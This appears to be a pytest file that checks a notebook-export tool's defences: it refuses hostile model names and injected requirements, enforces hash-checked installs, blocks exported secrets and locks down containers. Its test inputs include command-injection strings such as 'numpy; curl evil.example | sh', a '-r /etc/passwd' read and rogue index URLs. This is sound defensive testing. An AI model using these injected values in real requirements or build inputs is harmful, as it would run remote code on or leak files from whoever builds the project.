"""H1–H4 and H12: names, requirements and cells that attack whoever builds or runs an export."""

from __future__ import annotations

import json
import re
import subprocess
import tomllib
from dataclasses import replace

import pytest
import yaml

from mlops_jupyter.deploy.contents import contents_of
from mlops_jupyter.deploy.exporting import export
from mlops_jupyter.deploy.naming import base_image, exact_requirement
from mlops_jupyter.deploy.packages import packages_of
from mlops_jupyter.deploy.subject import manifest, subject_of
from mlops_jupyter.deploy.training import training_of
from mlops_jupyter.errors import UsageError
from mlops_jupyter.records import LocalModule

from ..deploy.exports import HOSTILE, register, with_recipe


@pytest.fixture
def subject(registry):
    register()
    return subject_of(registry, "churn")


def silent(words):
    """Nothing is shown."""


# --- H1 --------------------------------------------------------------------------------------------


@pytest.mark.slow
def test_H01_a_hostile_name_is_only_ever_data(registry):
    register(HOSTILE)
    subject = with_recipe(subject_of(registry, HOSTILE), "model = 1")
    files = contents_of(registry, subject, "service", say=silent).bundle.files
    told = {path for path, data in files.items() if HOSTILE.encode() in data}
    assert told <= {path for path in files if path.endswith(".json")}
    assert json.loads(files["model/manifest.json"])["name"] == HOSTILE
    name = "churn-s-best-touch-x-id-7-7-b-0a"
    assert tomllib.loads(files["pyproject.toml"].decode())["project"]["name"] == name
    assert list(yaml.safe_load(files["compose.yaml"])["services"]) == [name]
    for path in ("Dockerfile", "compose.yaml", ".github/workflows/deploy.yml", "train.py", "README.md"):
        text = files[path].decode()
        assert "touch x" not in text
        assert "49" not in re.findall(r"\b49\b", text)
    compile(files["train.py"], "train.py", "exec")


def test_H01_the_manifest_holds_the_name_as_it_is(registry):
    register(HOSTILE)
    subject = subject_of(registry, HOSTILE)
    assert json.loads(json.dumps(manifest(subject)))["label"] == f"{HOSTILE}:1"
    assert re.fullmatch(r"[a-z0-9-]+", subject.name)


# --- H2 --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "numpy; curl evil.example | sh",
        "-r /etc/passwd",
        "--index-url https://evil.example/simple",
        "git+ssh://git@evil.example/x",
        "numpy @ https://evil.example/numpy.whl",
        "./numpy",
        "/tmp/numpy",
        "numpy==1.0 --hash=sha256:00",
        "numpy==1.0\n--index-url=https://evil.example",
        "numpy",
    ],
)
def test_H02_a_requirement_is_one_version_of_a_package_or_refused(text):
    with pytest.raises(UsageError, match="is not taken"):
        exact_requirement(text)


@pytest.mark.parametrize("version", ["2.0; curl x", "2.0 --index-url x", "@ file:///etc", "2.0\n-r x"])
def test_H02_a_recorded_version_that_is_none_is_refused(subject, version):
    with pytest.raises(UsageError, match="no package and version"):
        packages_of(replace(subject, installed={"numpy": version}), ["numpy"])


# --- H3 --------------------------------------------------------------------------------------------


@pytest.mark.slow
def test_H03_every_package_is_checked_by_its_hash(subject, tmp_path):
    import uv

    packages = packages_of(subject, ["packaging"], on_progress=silent)
    entries = packages.lock.text.replace("\\\n", " ").splitlines()
    assert all("--hash=sha256:" in line for line in entries if line and not line.startswith("#"))
    digits = re.sub(r"sha256:[0-9a-f]{64}", f"sha256:{'0' * 64}", packages.lock.text)
    (tmp_path / "other.lock").write_text(digits)
    command = [uv.find_uv_bin(), "pip", "install", "--require-hashes", "--no-cache", "-r", "other.lock"]
    ran = subprocess.run(
        [*command, "--target", str(tmp_path / "target")], cwd=tmp_path, capture_output=True, text=True
    )
    assert ran.returncode != 0
    assert "ash" in ran.stderr  # hash mismatch
    assert not list((tmp_path / "target").glob("*/*.py"))


# --- H4 --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("source", "words"),
    [
        ("password = 'correct horse'\nmodel = password", "a secret by its name"),
        ("model = connect('postgresql://ann:hunter22@db/x')", "a password in an address"),
        ("key = 'AKIAIOSFODNN7EXAMPLZ'\nmodel = key", "a secret"),
    ],
)
def test_H04_a_secret_in_the_cells_blocks_the_export(registry, subject, tmp_path, source, words):
    with pytest.raises(UsageError, match=rf"holds a secret \(cell \[1\], line \d+: {words}.*os.environ"):
        training_of(registry, with_recipe(subject, source), "service")


def test_H04_a_secret_that_was_masked_when_it_was_kept_blocks_too(registry, subject):
    doubt = "cell [3], line 1: a secret by its name was masked; the cell does not run as it is kept"
    with pytest.raises(UsageError, match=r"cell \[3\], line 1: a secret by its name"):
        training_of(registry, with_recipe(subject, "password = '***'", doubts=[doubt]), "service")


def test_H04_a_secret_in_a_helper_module_blocks_too(registry, subject):
    kept = registry.objects.put(b"TOKEN = 1\napi_key = 'abc-def-ghi'\n")
    module = LocalModule("helpers", "helpers.py", "", object_hash=kept)
    with pytest.raises(UsageError, match=r"modules/helpers.py, line 2"):
        training_of(registry, with_recipe(subject, "import helpers", modules=[module]), "service")


def test_H04_only_what_made_the_model_is_exported_and_paths_are_named(registry, subject):
    made = training_of(
        registry, with_recipe(subject, "!ls /root\nmodel = open('/home/ann/x.csv').read()"), "service"
    )
    assert "subprocess.run" in made.script
    assert any("absolute path stands in the code: /home/ann/x.csv" in note for note in made.notes)


@pytest.mark.slow
def test_H04_a_blocked_export_writes_nothing_and_may_leave_the_recipe_out(registry, tmp_path, monkeypatch):
    from mlops_jupyter.deploy import exporting

    register()
    real = exporting.subject_of
    monkeypatch.setattr(
        exporting,
        "subject_of",
        lambda *given, **named: with_recipe(real(*given, **named), "password = 'x1y2z3'"),
    )
    with pytest.raises(UsageError, match="holds a secret"):
        export("churn", tmp_path / "out", verify=False)
    assert not (tmp_path / "out").exists()
    export("churn", tmp_path / "out", verify=False, training=False)
    assert not (tmp_path / "out" / "train.py").exists()
    assert "x1y2z3" not in "".join(
        path.read_text(errors="replace") for path in (tmp_path / "out").rglob("*") if path.is_file()
    )


# --- H12 -------------------------------------------------------------------------------------------


@pytest.mark.slow
@pytest.mark.parametrize("target", ["service", "batch"])
def test_H12_the_container_can_do_little(registry, subject, target):
    image = f"python:3.11.9-slim@sha256:{'a' * 64}"
    files = contents_of(registry, subject, target, say=silent, image=image).bundle.files
    docker = files["Dockerfile"].decode()
    lines = docker.replace("\\\n", " ").splitlines()
    assert lines[0] == f"FROM {image}"
    assert "USER 10001:10001" in lines
    assert lines.index("USER 10001:10001") > max(i for i, line in enumerate(lines) if line.startswith("RUN"))
    commands = [line for line in lines if line.startswith(("RUN", "CMD", "ENTRYPOINT"))]
    assert all(line.split(" ", 1)[1].startswith("[") for line in commands), "no shell is needed"
    assert ("HEALTHCHECK" in docker) is (target == "service")
    assert "ADD" not in docker
    [service] = yaml.safe_load(files["compose.yaml"])["services"].values()
    assert service["read_only"] is True
    assert service["cap_drop"] == ["ALL"]
    assert service["security_opt"] == ["no-new-privileges:true"]
    if target == "service":
        assert service["ports"] == ["127.0.0.1:8000:8000"]
    ignored = files[".dockerignore"].decode().splitlines()
    assert ignored[1] == "*"
    copied = {line.split()[1].rstrip("/") for line in lines if line.startswith("COPY")}
    assert copied == {line[1:].rstrip("/") for line in ignored if line.startswith("!")}


def test_H12_the_base_image_never_floats():
    for image in ("python", "python:latest", "python:3.11.9-slim@sha256:short"):
        with pytest.raises(UsageError):
            base_image("3.11.9", image)
    assert base_image("3.11.9") == "python:3.11.9-slim"
